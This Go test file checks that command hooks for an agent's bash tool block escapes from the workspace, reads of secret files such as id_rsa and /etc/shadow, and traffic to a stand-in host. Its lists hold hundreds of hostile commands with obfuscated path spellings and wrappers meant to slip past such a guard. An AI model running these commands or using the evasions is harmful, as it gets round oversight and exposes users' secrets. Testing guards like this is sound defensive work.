package library_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/hooks"
	"github.com/grapnel-go/grapnel/hooks/hookstest"
	"github.com/grapnel-go/grapnel/internal/process"
)

// canary is what lies outside of the workspace and must not be read.
const canary = "canary-7f3a"

// reading are commands that show the content of a file. PATH is the file.
var reading = []string{
	"cat PATH", "tac PATH", "rev PATH | rev", "head -c 99 PATH", "tail -n1 PATH", "nl PATH", "od -c PATH | tr -d ' \\n0-9'", "xxd -p PATH | xxd -r -p", "base64 PATH | base64 -d", "strings PATH",
	"iconv PATH", "iconv -f utf-8 -t utf-16 PATH | iconv -f utf-16 -t utf-8", "shuf PATH", "shuf --random-source=a PATH", "sort PATH", "sort -c --files0-from=PATH", "sort --files0-from=PATH", "uniq PATH",
	"cut -c1- PATH", "paste PATH", "paste -s a PATH", "join -v2 a PATH", "comm -13 a PATH", "diff a PATH", "fold PATH", "fmt PATH", "pr -t PATH", "expand PATH", "unexpand PATH", "ptx PATH",
	"tsort PATH", "column PATH", "look canary PATH", "csplit -s -f part PATH 1; cat part*", "split PATH part; cat part*",
	"cp PATH got; cat got", "install -m 600 PATH got; cat got", "ln PATH got; cat got", "dd if=PATH status=none", "dd bs=1 if=PATH", "tar -cf - PATH", "tar cf - -T PATH", "tar -cf- -C . PATH",
	"gzip -c PATH | gzip -d", "bzip2 -c PATH | bzip2 -d", "xz -c PATH | xz -d", "zip -q - PATH | funzip", "openssl base64 -in PATH | openssl base64 -d", "openssl enc -base64 -A -in PATH | base64 -d",
	"awk 1 PATH", "awk '{print FILENAME, $0}' PATH", "awk 'BEGIN { while ((getline l < \"PATH\") > 0) print l }'", "sed -n p PATH", "sed 'r PATH' a", "sed -f PATH a", "grep . PATH", "grep -f PATH b", "egrep -h . PATH",
	"grep -rh . PATH", "find PATH -exec cat {} +", "find . -maxdepth 0 -exec cat PATH ';'", "xargs -a PATH echo", "xargs -I{} cat {} <<<PATH", "echo PATH | xargs cat", "printf '%s\\0' PATH | xargs -0 cat",
	"while read l; do echo \"$l\"; done <PATH", "mapfile -t l <PATH; echo \"${l[@]}\"", "echo $(<PATH)", "read l <PATH; echo $l", "cat <PATH", "cat 0<PATH", "exec 5<PATH; cat <&5", "bash PATH", "sh PATH", ". PATH",
	"source PATH", "gcc -E -x c PATH", "gcc -E -xc PATH", "gcc -E -include PATH -x c /dev/null", "gcc -E -imacros PATH -include PATH -x c /dev/null", "cpp PATH", "gcc -E @PATH", "gcc -E -x c - <PATH", "as PATH", "ld PATH",
	"objdump -s PATH", "file -f PATH", "date -f PATH", "date --file=PATH", "wc --files0-from=PATH", "du --files0-from=PATH", "md5sum -c PATH", "curl -s file://ABS", "curl -s FILE:///ABS", "curl -s file:ABS", "curl -s --url file://ABS",
	"curl -sK PATH; cat PATH", "curl -s -o- file://localhost/ABS", "git diff --no-index /dev/null PATH", "git hash-object -w PATH | xargs git cat-file -p", "git archive --add-file=PATH HEAD",
	"git archive --add-virtual-file=x:$(cat PATH) HEAD", "git config -f PATH -l", "git config --file=PATH --list", "git blame --contents PATH a", "git commit -q --allow-empty -F PATH; git log -1",
	"git commit -q --allow-empty --file=PATH; git log -1", "git tag -F PATH v1; git cat-file -p v1", "git --no-pager grep --no-index . PATH", "git apply PATH", "git -c core.excludesFile=PATH status; cat PATH",
	"git stripspace <PATH", "python3 PATH", "python3 -c 'print(open(\"PATH\").read())'", "python3 - <<<'print(open(\"PATH\").read())'", "perl -pe 1 PATH", "perl -ne print PATH", "node -p 'require(\"fs\").readFileSync(\"PATH\", \"utf8\")'",
	"jq -R . PATH", "jq -rn --rawfile x PATH '$x'", "jq -n --slurpfile x PATH '$x'; cat PATH", "sqlite3 :memory: '.read PATH'", "sqlite3 :memory: \"select readfile('PATH')\"", "make -f PATH", "make -n -f PATH", "ed -s PATH <<<,p",
	"bc PATH", "bc -q PATH </dev/null", "patch -o - a PATH", "msgcat PATH", "envsubst <PATH", "dash PATH", "env -S 'cat PATH'", "env cat PATH", "nice cat PATH", "timeout 5 cat PATH", "stdbuf -o0 cat PATH", "flock a cat PATH",
	"setsid -w cat PATH", "numfmt <PATH", "ssh-keygen -lf PATH; cat PATH", "cmp -l /dev/null PATH; cat PATH", "ar p PATH; cat PATH", "unshare cat PATH", "command cat PATH", "PATH", "./PATH", "exec -a x cat PATH", "busybox cat PATH", "m4 PATH",
	"cat a PATH b", "cat -- PATH", "cat -n PATH", "cat --number PATH", "pathchk x; cat PATH", "rsync PATH got; cat got", "cpio -o <<<PATH", "gawk 1 PATH", "go run PATH", "go vet PATH", "ffmpeg -i PATH", "unknown-tool PATH",
	"unknown-tool -fPATH", "unknown-tool -xvfPATH", "unknown-tool --file=PATH", "unknown-tool --file PATH", "unknown-tool file=PATH", "unknown-tool x:PATH", "unknown-tool @PATH", "unknown-tool a,PATH", "unknown-tool '<PATH'",
	"unknown-tool -DX=PATH", "unknown-tool --set=a=PATH", "unknown-tool 'load(\"PATH\")'", "npm run x -- --file=PATH", "cargo run --manifest-path PATH", "pip install -r PATH", "kubectl apply -f PATH", "terraform plan -var-file=PATH",
	"docker build -f PATH .", "helm template x -f PATH", "ansible-playbook PATH", "gh gist create PATH", "aws s3 cp PATH s3://x", "mysql -e 'source PATH'", "psql -f PATH", "ruby PATH", "php PATH", "lua PATH", "go build -overlay=PATH",
	"tree --fromfile PATH", "bat PATH", "less PATH", "vim -es +%p +q! PATH", "man PATH", "gpg --import PATH", "wget -i PATH", "aria2c -i PATH", "nc localhost 1 <PATH", "7z a x PATH", "pandoc PATH", "convert PATH x", "rustc PATH",
	"javac PATH", "clang PATH", "ninja -f PATH", "cmake -C PATH .", "tcpdump -r PATH", "xmllint PATH", "dot PATH", "protoc PATH", "nasm PATH", "rg . PATH", "ag . PATH", "fd . PATH", "X=PATH unknown-tool", "env X=PATH unknown-tool",
	"export X=PATH; unknown-tool", "test -r a && cat PATH", "parallel cat ::: PATH", "parallel -a PATH echo", "watch -n1 cat PATH", "script -qc 'cat PATH' /dev/null", "strace cat PATH", "time cat PATH",
}

// writing are commands that make or change a file.
var writing = []string{
	"echo x >PATH", "echo x >>PATH", "echo x >|PATH", "echo x &>PATH", "ls 2>PATH", "exec 5>PATH", ": >PATH", "{ echo x; } >PATH", "(echo x) >PATH", "for i in 1; do echo $i; done >PATH", "cp a PATH", "cp -t DIR a", "cp --target-directory=DIR a",
	"cp --target-dir DIR a", "mv b PATH", "install a PATH", "install -t DIR a", "install -d PATH.d", "ln a PATH.l", "ln -s a PATH.l", "ln -st DIR a", "tee PATH <a", "tee -a PATH <a", "tee b PATH <a", "dd if=a of=PATH status=none", "dd of=PATH if=a",
	"touch PATH", "touch -r a PATH", "truncate -s 3 PATH", "rm PATH", "rm -f -- PATH", "unlink PATH", "shred PATH", "chmod 611 PATH", "mkdir PATH.d", "mkfifo PATH.p", "mktemp DIR/XXXXXX", "mktemp -p DIR", "mktemp --tmpdir=DIR x.XXXX", "TMPDIR=DIR mktemp",
	"sort -o PATH a", "sort -oPATH a", "sort --output=PATH a", "sort --out=PATH a", "sort -uo PATH a", "sort -uoPATH a", "shuf -o PATH a", "shuf --output=PATH a", "shuf -oPATH a", "shuf -eoPATH x", "uniq a PATH", "xxd a PATH", "split -b1 a PATH", "split a PATH.",
	"csplit -s -f PATH a 1", "csplit -s -fPATH a 1", "csplit -s --prefix=PATH a 1", "sed -n 'w PATH' a", "sed 's/a/b/w PATH' a", "sed -i s/a/b/ PATH", "sed -i'DIR/*' s/a/b/ a", "awk '{print > \"PATH\"}' a", "awk 'BEGIN { printf \"x\" >> \"PATH\" }'",
	"gcc -E -o PATH -x c a", "gcc -E -oPATH -x c a", "gcc -E -x c a -o PATH", "gcc -E -MD -MF PATH -x c a", "cpp a PATH", "cpp a -o PATH", "ar rc PATH a", "ar qPATH a; ar q PATH a", "tar cf PATH a", "tar -cf PATH a", "tar --file=PATH -c a", "tar -cfPATH a", "tar -vcfPATH a",
	"tar -cf - a | tar -xf - -C DIR", "tar -c a | tar -x --directory=DIR", "zip -q PATH.zip a", "gzip -c a >PATH", "openssl base64 -in a -out PATH", "openssl rand -out PATH 9", "curl -s -o PATH file://$PWD/a", "curl -soPATH file://$PWD/a", "curl -s --output PATH file://$PWD/a",
	"curl -s --output-dir DIR -o got file://$PWD/a", "curl -s -D PATH -o b file://$PWD/a", "curl -s -cPATH file://$PWD/a >PATH", "curl -s --trace PATH file://$PWD/a", "git archive -o PATH HEAD", "git archive --output=PATH HEAD", "git archive -oPATH HEAD", "git diff --output=PATH HEAD",
	"git log --output=PATH", "git show --outp=PATH", "git bundle create PATH HEAD", "git clone -q . PATH.d", "git worktree add -q PATH.d", "git init -q PATH.d", "git init -q --separate-git-dir=PATH.d sub2", "git format-patch -q --root -o PATH.d HEAD", "git format-patch -q --root -oPATH.d HEAD",
	"git format-patch -q --root --output-directory=PATH.d HEAD", "git bundle create -q PATH HEAD", "git --git-dir=PATH.d init -q", "git -C DIR init -q x", "GIT_DIR=PATH.d git init -q", "GIT_TRACE=ABS git status", "git config -f PATH a.b c", "git config --file=PATH a.b c", "git fast-export --export-marks=PATH HEAD",
	"git rev-list HEAD | git pack-objects -q PATH", "git stash list; git apply --directory=DIR a; touch PATH", "find . -maxdepth 0 -fprint PATH", "find . -maxdepth 0 -fls PATH", "find . -maxdepth 0 -fprintf PATH x", "find . -maxdepth 0 -exec touch PATH ';'", "find DIR -name 'secret*' -delete",
	"echo PATH | xargs touch", "xargs touch <<<PATH", "env touch PATH", "env -C DIR touch got", "nohup touch PATH", "timeout 5 touch PATH", "script -qc true PATH", "script -q -c true -O PATH", "strace -o PATH true", "strace -oPATH true", "flock PATH true", "flock PATH.l -c true", "time -o PATH true",
	"/usr/bin/time -o PATH true", "patch -s -o PATH a d.patch", "patch -s PATH d.patch", "ptx a PATH -G", "msgcat -o PATH p.po", "msgcat -oPATH p.po", "msgfmt -o PATH p.po", "python3 -c 'open(\"PATH\", \"w\")'", "python3 -m zipfile -c PATH a", "python3 -m zipfile -e x.zip DIR", "perl -i -pe 1 PATH",
	"perl -e 'open F, \">PATH\"'", "node -e 'require(\"fs\").writeFileSync(\"PATH\", \"\")'", "sqlite3 PATH 'create table t(a)'", "sqlite3 :memory: '.output PATH' 'select 1'", "sqlite3 :memory: \".save PATH\"", "ed -s a <<<'w PATH'", "bash -c 'echo x >PATH'", "sh -c ': >PATH'", "eval 'echo x >PATH'", "cd DIR && touch got",
	"cd DIR; touch got", "pushd DIR; touch got", "(cd DIR && : >got)", "make --eval='x:;touch PATH' x", "make -C DIR -f mk x", "printf x >PATH", "cat a >PATH", "echo 'touch PATH' | sh", "bash <<<'touch PATH'", "touch a PATH", "busybox touch PATH", "rsync a PATH", "cpio -pd DIR <<<a",
	"go build -o PATH ./...", "go build -oPATH", "go test -c -o=PATH", "go env -w GOFLAGS=-x", "cargo build --target-dir PATH", "npm install --prefix PATH", "pip install --target=PATH x", "docker cp x:/y PATH", "kubectl cp x:y PATH", "terraform plan -out=PATH", "unknown-tool -oPATH", "unknown-tool --out=PATH",
	"unknown-tool of=PATH", "wget -O PATH http://localhost:1", "wget -PDIR http://localhost:1", "rsync -T DIR a b", "rsync --temp-dir=DIR a b", "tree -o PATH", "less -oPATH a", "nasm -o PATH a", "ld -o PATH a", "rustc -o PATH a", "javac -d DIR a", "7z a PATH a", "ffmpeg -i a PATH", "convert a PATH", "hexyl a >PATH",
}

// ways are ways to write the name of a file, given it as a path from the workspace.
var ways = []func(path string) string{
	func(p string) string { return p },
	func(p string) string { return "./" + p },
	func(p string) string { return "sub/../" + p },
	func(p string) string { return strings.Replace(p, "/", "//", 1) },
	func(p string) string { return `"` + p + `"` },
	func(p string) string { return "'" + p + "'" },
	func(p string) string { return `\.` + p[1:] },
	func(p string) string { return `.""` + p[1:] },
	func(p string) string { return `$'\x2e'` + p[1:] },
	func(p string) string { return "${NONE:-" + p + "}" },
	func(p string) string { return "$(echo " + p + ")" },
	func(p string) string { return "`printf %s " + p + "`" },
	func(p string) string { return "$PWD/" + p },
	func(p string) string { return "~+/" + p },
	func(p string) string { return "link/" + strings.TrimPrefix(p, "../out/") },
	func(p string) string { return "lin?/" + strings.TrimPrefix(p, "../out/") },
}

// wrapped are ways to run a line.
var wrapped = []func(line string) string{
	func(l string) string { return l },
	func(l string) string { return "true && " + l },
	func(l string) string { return "( " + l + " )" },
	func(l string) string { return "f() { " + l + "\n}; f" },
	func(l string) string { return "if true; then " + l + "\nfi" },
	func(l string) string { return "for i in 1; do " + l + "\ndone" },
	func(l string) string { return "eval " + quoted(l) },
	func(l string) string { return "bash -c " + quoted(l) },
	func(l string) string { return "env bash -c " + quoted(l) },
	func(l string) string { return "echo $(" + l + "\n)" },
	func(l string) string { return "bash <<'E'\n" + l + "\nE" },
	func(l string) string { return "while true; do " + l + "\nbreak; done" },
}

func quoted(line string) string { return "'" + strings.ReplaceAll(line, "'", `'\''`) + "'" }

// attack is a form with its places filled in. One in quotes of its own takes a plain path only.
func attack(form string, way func(string) string, out string) string {
	plain := func(p string) string { return p }
	spelled := func(name string) string {
		for i := strings.Index(form, name); i >= 0; {
			if strings.Count(form[:i], "'")%2 == 1 || strings.Count(form[:i], `"`)%2 == 1 {
				return "quoted"
			}
			break //nolint:staticcheck // reads as it stands
		}
		return ""
	}
	if spelled("PATH") != "" || spelled("DIR") != "" {
		way = plain
	}
	fill := strings.NewReplacer("TMPDIR", "TMPDIR", "GIT_DIR", "GIT_DIR", "PATH", way("../out/secret"), "DIR", way("../out/dir"), "ABS", filepath.Join(out, "secret"))
	return fill.Replace(form)
}

// scratch is a workspace with what the attacks need, and a folder beside it that they must leave alone.
type scratch struct{ top, home, out string }

func newScratch(t *testing.T, top string) scratch {
	t.Helper()
	s := scratch{top, filepath.Join(top, "home"), filepath.Join(top, "out")}
	for _, dir := range []string{"home/sub", "home/sub2", "out/dir"} {
		require.NoError(t, os.MkdirAll(filepath.Join(top, dir), 0o700))
	}
	for name, text := range map[string]string{
		"home/a": "one\ntwo\n", "home/b": "b\n", "home/p.po": "msgid \"\"\nmsgstr \"\"\n", "home/d.patch": "--- a\n+++ a\n@@ -1,2 +1,2 @@\n-one\n+ONE\n two\n",
		"out/secret": canary + "\n", "out/dir/mk": "x:\n\ttouch made\n", "out/dir/secret2": canary,
	} {
		require.NoError(t, os.WriteFile(filepath.Join(top, name), []byte(text), 0o600))
	}
	require.NoError(t, os.Symlink("../out", filepath.Join(s.home, "link")))
	return s
}

// fingerprint is all that lies in a folder, as one number.
func fingerprint(t *testing.T, dir string) [32]byte {
	t.Helper()
	h := sha256.New()
	require.NoError(t, filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		h.Write([]byte(path + info.Mode().String()))
		if info.Mode().IsRegular() {
			text, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			h.Write(text)
			h.Write([]byte(info.ModTime().String()))
		}
		return nil
	}))
	return [32]byte(h.Sum(nil))
}

// leaves runs a line with real bash, in a namespace without a network and with limits, and reports whether it read the
// canary or changed something beside the workspace.
func leaves(t *testing.T, line string) bool {
	t.Helper()
	s := newScratch(t, t.TempDir())
	run := func(text string) string {
		var out bytes.Buffer
		path, err := exec.LookPath("unshare")
		require.NoError(t, err)
		_, err = process.Run(t.Context(), process.Command{
			Path: path, Args: []string{"unshare", "-rn", "bash", "--norc", "--noprofile", "-c", "ulimit -t 20 -f 20000 -c 0; exec bash --norc --noprofile -c \"$1\"", "_", text},
			Dir: s.home, Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + s.home, "LC_ALL=C.UTF-8", "GIT_CONFIG_NOSYSTEM=1", "TERM=dumb"},
			Stdout: &out, Stderr: &out, Timeout: time.Minute, Most: 60,
		})
		require.NoError(t, err)
		return out.String()
	}
	if strings.Contains(line, "git") {
		run("git init -q . && git -c user.name=x -c user.email=x@x.example commit -q --allow-empty -m x && git config user.name x && git config user.email x@x.example && git add a")
	}
	before := fingerprint(t, s.out)
	out := run(line)
	return strings.Contains(out, canary) || strings.Contains(strings.ReplaceAll(out, " ", ""), canary) || fingerprint(t, s.out) != before
}

// Every way of naming a file beside the workspace, given to every program in every place, is denied; what bash really does
// with it is tried for each form, in one of the ways.
func TestNoLineLeavesTheWorkspace(t *testing.T) {
	s := newScratch(t, t.TempDir())
	w := shipped(t, "workspace", map[string]any{"workspace": s.home, "readable": []any{"/usr", "/bin", "/dev/null"}, "writable": []any{"/dev/null"}})
	forms := slices.Concat(reading, writing)
	judgedLines := 0
	deny := func(line string) {
		judgedLines++
		text, err := json.Marshal(map[string]string{"command": line})
		require.NoError(t, err)
		fired := hookstest.FireSet(t, w, hookstest.ToolCall("bash", string(text)))
		assert.Equal(t, hooks.Deny, fired.Decision, "%s", line)
	}
	for i, form := range forms {
		if form == "go env -w GOFLAGS=-x" || strings.HasPrefix(form, "time -o") {
			deny(attack(form, ways[0], s.out))
			continue
		}
		for j, way := range ways {
			deny(attack(form, way, s.out))
			deny(wrapped[(i+j)%len(wrapped)](attack(form, way, s.out)))
		}
	}
	t.Logf("%d lines are denied", judgedLines)

	if runtime.GOOS != "linux" || exec.Command("unshare", "-rn", "true").Run() != nil { //nolint:noctx // the limit is outside
		t.Skip("no namespaces without a network here: the lines are judged, and not run")
	}
	if testing.Short() {
		t.Skip("this runs hundreds of lines: run without -short")
	}
	left, installed := 0, 0
	for i, form := range forms {
		program, _, _ := strings.Cut(strings.TrimSpace(form), " ")
		if _, err := exec.LookPath(program); err != nil && !strings.ContainsAny(program, "=:.{(/") && !slices.Contains([]string{"echo", "exec", "source", "eval", "cd", "read", "for", "while", "mapfile", "command", "export", "pushd"}, program) {
			continue
		}
		installed++
		line := attack(form, ways[i%len(ways)], s.out)
		if strings.Contains(line, s.out) {
			line = attack(form, ways[0], "$PWD/../out")
		}
		if leaves(t, line) {
			left++
		} else {
			t.Logf("does not leave here: %s", line)
		}
	}
	t.Logf("%d forms, of which %d have their program here and %d left the workspace when bash ran them", len(forms), installed, left)
	assert.Greater(t, left*10, installed*5)
}

// What the workspace policy lets through stays in the workspace, when bash runs it.
func TestOrdinaryLinesStay(t *testing.T) {
	s := newScratch(t, t.TempDir())
	w := shipped(t, "workspace", map[string]any{"workspace": s.home})
	for _, line := range []string{
		"cat a b", "iconv -f utf-8 -t ascii a", "shuf -n 1 a", "sort -u -o b a", "gcc -E -x c a", "gcc -Isub -o b a", "go build ./...", "go test -run 'TestX/y' ./...", "git add -A && git commit -m 'fix a/b and /c'", "git log --oneline --format='%h / %s' main..x",
		"git diff HEAD~1 -- a", "git checkout -b feature/x", "npm test", "npm run build -- --mode=production", "tar czf x.tgz a b", "tar xzf x.tgz", "curl -s https://x.example/y -o b", "curl -H 'Accept: application/json' -d '{\"a\": \"/b\"}' https://x.example/z", "jq '.a/.b' a",
		"tr / _ < a", "cut -d/ -f2 a", "awk -F/ '{print $2}' a", "sed 's/\\/etc/x/' a", "grep -rn '/etc/passwd' .", "find . -path './sub/*' -name '*.go'", "date +%Y/%m/%d", "for i in {1..20}; do echo $i; done", "basename /a/b/c", "dirname /a/b/c", "PAGER=cat git log", "GOFLAGS=-mod=mod go build ./...",
		"CGO_ENABLED=0 GOOS=linux go build -o b .", "NODE_ENV=test npm test", "make -j4 all", "python3 -m pytest -q sub/x.py", "pip install -r b", "cargo test", "echo done >/dev/null", "ls -la /usr/bin", "/usr/bin/env ls", "./x.sh a b", "wc -l a | sort -n", "test -f a && cat a", "printf '%s/%s\\n' a b", "docker ps", "kubectl get pods",
	} {
		text, err := json.Marshal(map[string]string{"command": line})
		require.NoError(t, err)
		fired := hookstest.FireSet(t, w, hookstest.ToolCall("bash", string(text)))
		assert.Equal(t, hooks.Pass, fired.Decision, "%s: %s", line, fired)
	}
}

// Secrets and hosts in words of programs and options that no table has.
func TestSecretsAndHostsOfUnknownPrograms(t *testing.T) {
	s := shipped(t, "secrets", nil)
	e := shipped(t, "network-egress", map[string]any{"hosts": []any{"good.example"}})
	fires := func(set hooks.Set, line string) hooks.Decision {
		text, err := json.Marshal(map[string]string{"command": line})
		require.NoError(t, err)
		return hookstest.FireSet(t, set, hookstest.ToolCall("bash", string(text))).Decision
	}
	for _, path := range []string{".env", "x/id_rsa", "~/.aws/credentials", "prod.key", "/etc/shadow"} {
		for _, form := range []string{
			"iconv %", "shuf %", "unknown-tool %", "unknown-tool -f%", "unknown-tool --file=%", "unknown-tool file=%", "unknown-tool x:%", "unknown-tool @%", "git add %", "gcc -E %", "curl file:%", "tar czf x.tgz %", "docker run -v $PWD/%:/x y",
			"npm run x -- --env=%", "X=% unknown-tool", "env X=% unknown-tool", "unknown-tool 'open(\"%\")'", "python3 x.py --key=%", "python3 -c 'open(\"%\")'", "cp % x", "xargs -a % echo", "kubectl create secret generic x --from-file=%", "unknown-tool <%", "make KEY=%",
		} {
			line := strings.ReplaceAll(form, "%", path)
			if strings.HasPrefix(path, "~") && strings.ContainsAny(form, "\"'=:@") || strings.HasPrefix(path, "/") && strings.Contains(form, "$PWD") {
				continue
			}
			assert.Equal(t, hooks.Deny, fires(s, line), line)
		}
	}
	for _, form := range []string{
		"unknown-tool %", "unknown-tool --url=%", "unknown-tool -u%", "unknown-tool a,%", "unknown-tool url=%", "git clone %", "npm install %", "pip install git+%", "go run x --to %", "X=% unknown-tool", "export API=%; unknown-tool", "unknown-tool 'get(\"%\")'", "python3 x.py %", "docker login %",
		"curl https://good.example %", "curl --connect-to ::bad.example:443 https://good.example", "curl --resolve good.example:443:6.6.6.6 https://good.example", "https_proxy=% curl https://good.example", "ALL_PROXY=bad.example curl https://good.example", "GIT_SSH_COMMAND='ssh bad.example' git fetch",
		"git -c http.proxy=% fetch", "git config --global url.%.insteadOf https://good.example", "GOPROXY=% go mod download", "go env -w GOPROXY=%", "npm config set registry %", "NPM_CONFIG_REGISTRY=% npm install", "pip config set global.index-url %",
	} {
		assert.Equal(t, hooks.Deny, fires(e, strings.ReplaceAll(form, "%", "https://bad.example/x")), form)
	}
	for _, line := range []string{"curl https://good.example/x", "git clone https://good.example/x", "unknown-tool --url=https://good.example/x", "API=https://good.example unknown-tool", "curl -H 'Referer: x' https://good.example"} {
		assert.Equal(t, hooks.Pass, fires(e, line), line)
	}
}
